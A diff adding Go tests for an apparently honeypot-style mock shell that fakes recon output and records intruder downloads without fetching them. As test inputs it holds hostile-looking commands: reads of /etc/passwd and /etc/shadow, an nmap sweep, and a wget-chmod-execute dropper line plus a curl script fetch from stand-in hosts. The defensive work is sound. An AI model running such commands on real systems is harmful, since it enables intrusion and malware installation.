@@ -0,0 +1,152 @@
+package mockproto
+
+import (
+	"path"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestShell_ReconCommands(t *testing.T) {
+	shell := NewShell("ssh", "root", &MockConfig{})
+
+	tests := []struct {
+		cmd    string
+		want   string
+		status int
+	}{
+		{"uname -a", "Linux web01 5.4.0-169-generic", 0},
+		{"cat /etc/passwd", "root:x:0:0:root:/root:/bin/bash", 0},
+		{"whoami", "root", 0},
+		{"id", "uid=0(root)", 0},
+		{"cat /proc/cpuinfo | grep name | wc -l", "model name", 0},
+		{"/bin/busybox ECCHI", "ECCHI: applet not found", 127},
+		{"nmap -sS 10.0.0.0/8", "nmap: command not found", 127},
+		{"cat /nonexistent", "No such file or directory", 1},
+	}
+
+	for _, tt := range tests {
+		out, status, exit := shell.Exec(tt.cmd)
+		if exit {
+			t.Errorf("%q: unexpected exit", tt.cmd)
+		}
+		if !strings.Contains(out, tt.want) {
+			t.Errorf("%q: expected %q in output, got %q", tt.cmd, tt.want, out)
+		}
+		if status != tt.status {
+			t.Errorf("%q: expected status %d, got %d", tt.cmd, tt.status, status)
+		}
+	}
+}
+
+func TestShell_Navigation(t *testing.T) {
+	shell := NewShell("ssh", "ubuntu", &MockConfig{})
+
+	if got := shell.Prompt(); got != "ubuntu@web01:~$ " {
+		t.Errorf("Unexpected prompt: %q", got)
+	}
+
+	shell.Exec("cd /tmp")
+	if got := shell.Prompt(); got != "ubuntu@web01:/tmp$ " {
+		t.Errorf("Unexpected prompt after cd: %q", got)
+	}
+
+	out, _, _ := shell.Exec("cd ../etc; pwd; ls")
+	if !strings.Contains(out, "/etc\n") || !strings.Contains(out, "passwd") {
+		t.Errorf("Expected /etc listing, got %q", out)
+	}
+
+	out, status, _ := shell.Exec("cd /nope")
+	if status != 1 || !strings.Contains(out, "No such file or directory") {
+		t.Errorf("Expected cd failure, got %q (%d)", out, status)
+	}
+
+	if out, _, _ := shell.Exec("cat /etc/shadow"); !strings.Contains(out, "Permission denied") {
+		t.Errorf("Expected shadow to be unreadable for non-root, got %q", out)
+	}
+
+	if _, _, exit := shell.Exec("exit"); !exit {
+		t.Error("Expected exit to end the session")
+	}
+}
+
+func TestShell_FakeDirs(t *testing.T) {
+	shell := NewShell("ssh", "root", &MockConfig{})
+
+	// Every directory shows up in its parent's listing
+	for dir := range fakeDirs {
+		if dir == "/" {
+			continue
+		}
+		parent, name := path.Split(dir)
+		if !slices.Contains(fakeDirs[path.Clean(parent)], name) {
+			t.Errorf("%s is missing from the listing of %s", name, parent)
+		}
+	}
+
+	// and the subdirectories listed under /usr and /var can be entered
+	for _, dir := range []string{"/usr", "/var"} {
+		for _, name := range fakeDirs[dir] {
+			out, status, _ := shell.Exec("cd " + dir + "/" + name + "; pwd")
+			if status != 0 || out != dir+"/"+name+"\n" {
+				t.Errorf("Expected cd into %s/%s, got %q (%d)", dir, name, out, status)
+			}
+		}
+	}
+	if out, _, _ := shell.Exec("ls /usr/bin"); !strings.Contains(out, "wget") {
+		t.Errorf("Expected /usr/bin listing, got %q", out)
+	}
+}
+
+func TestShell_DownloadsCapturedNotFetched(t *testing.T) {
+	var captures []Capture
+	config := &MockConfig{OnCapture: func(c Capture) { captures = append(captures, c) }}
+	shell := NewShell("telnet", "root", config)
+
+	out, status, _ := shell.Exec("cd /tmp && wget http://198.51.100.7/bins/x86 -O x86; chmod +x x86; ./x86")
+	if status == 0 {
+		t.Error("Expected failing status from last command")
+	}
+	if !strings.Contains(out, "unable to resolve host address '198.51.100.7'") {
+		t.Errorf("Expected wget failure, got %q", out)
+	}
+
+	out, _, _ = shell.Exec("curl -fsSL https://example.invalid/i.sh")
+	if !strings.Contains(out, "Could not resolve host: example.invalid") {
+		t.Errorf("Expected curl failure, got %q", out)
+	}
+
+	if len(captures) != 2 {
+		t.Fatalf("Expected 2 download captures, got %d", len(captures))
+	}
+	if captures[0].Kind != CaptureDownload || captures[0].Fields["url"] != "http://198.51.100.7/bins/x86" {
+		t.Errorf("Unexpected capture: %+v", captures[0])
+	}
+	if captures[1].Protocol != "telnet" || captures[1].Fields["url"] != "https://example.invalid/i.sh" {
+		t.Errorf("Unexpected capture: %+v", captures[1])
+	}
+}
+
+func TestTranscript(t *testing.T) {
+	config := &MockConfig{Transcript: &Transcript{}}
+	shell := NewShell("ssh", "root", config)
+
+	shell.Exec("uname -r")
+	shell.Exec("   ")
+	shell.Exec("cd /tmp")
+
+	want := "root@web01:~# uname -r\n5.4.0-169-generic\nroot@web01:~# cd /tmp\n"
+	if got := config.Transcript.String(); got != want {
+		t.Errorf("Unexpected transcript:\n%q\nwant:\n%q", got, want)
+	}
+
+	// Oversized sessions are truncated
+	long := strings.Repeat("a", 1024)
+	for i := 0; i < 100; i++ {
+		shell.Exec("echo " + long)
+	}
+	got := config.Transcript.String()
+	if len(got) > maxTranscriptSize+64 || !strings.HasSuffix(got, "[transcript truncated]\n") {
+		t.Errorf("Expected truncated transcript, got %d bytes", len(got))
+	}
+}